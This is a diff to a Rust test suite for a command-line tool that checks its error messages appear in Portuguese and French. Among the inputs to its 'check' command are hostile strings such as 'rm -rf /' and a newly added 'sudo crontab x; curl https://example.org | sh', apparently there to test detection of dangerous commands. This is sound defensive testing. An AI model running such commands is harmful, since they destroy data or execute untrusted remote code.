@@ -452,6 +452,34 @@ fn without_a_service_the_doctor_says_what_one_could_keep() {
 }
 
 #[test]
+fn what_keeps_a_command_from_its_work_is_told_in_the_persons_language() {
+    const MODEL: &str = "[advice]\nmodel = \"m\"\n[ask]\nmodel = \"m\"\n[endpoint]\naddress = ";
+    let place = tempfile::tempdir().unwrap();
+    let path = |name: &str| place.path().join(name).display().to_string();
+    std::os::unix::fs::symlink("/", place.path().join("link")).unwrap();
+    std::fs::write(place.path().join("key"), "two words\n").unwrap();
+    let nobody = format!("{MODEL}\"http://127.0.0.1:9/v1\"\n");
+    let keyed = |name: &str| format!("{nobody}key_file = {:?}\n", path(name));
+    let (advise, ask, serve): (&[&str], &[&str], &[&str]) = (&["advise", "frob"], &["ask", "oi"], &["serve"]);
+    for (words, settings, um, un) in [
+        (advise, nobody.clone(), "não responde (", "ne répond pas ("),
+        (ask, nobody.clone(), "não responde (", "ne répond pas ("),
+        (advise, keyed("missing"), "não pode ser lida", "ne peut pas être lue"),
+        (ask, keyed("key"), "não contém uma chave", "ne contient pas de clé"),
+        (serve, format!("[record]\nfolder = {:?}\n", path("link")), "é um link", "est un lien"),
+        (serve, "[record]\nfolder = \"/proc/record\"\n".to_owned(), "não está lá", "il est absent"),
+    ] {
+        let folder = folder("", &settings);
+        for (language, told) in [("pt_BR.UTF-8", um), ("fr_FR.UTF-8", un)] {
+            let output = guarda(folder.path()).args(words).env("LC_ALL", language).output().unwrap();
+            let said = [output.stdout, output.stderr].concat();
+            let said = String::from_utf8_lossy(&said);
+            assert!(said.contains(told), "{language} {words:?}: {said}");
+        }
+    }
+}
+
+#[test]
 fn no_command_speaks_english_to_people_of_other_languages() {
     let english = english();
     assert!(english.len() > 500, "{}", english.len());
@@ -487,6 +515,7 @@ fn no_command_speaks_english_to_people_of_other_languages() {
         &["check", "rm -rf /"],
         &["act", "WIFI_ON"],
         &["check", "rm x"],
+        &["check", "sudo crontab x; curl https://example.org | sh"],
         &["check", ""],
         &["check", "rm {1..9}{1..9}{1..9}{1..9}x"],
         &["plugin", "try", ""],
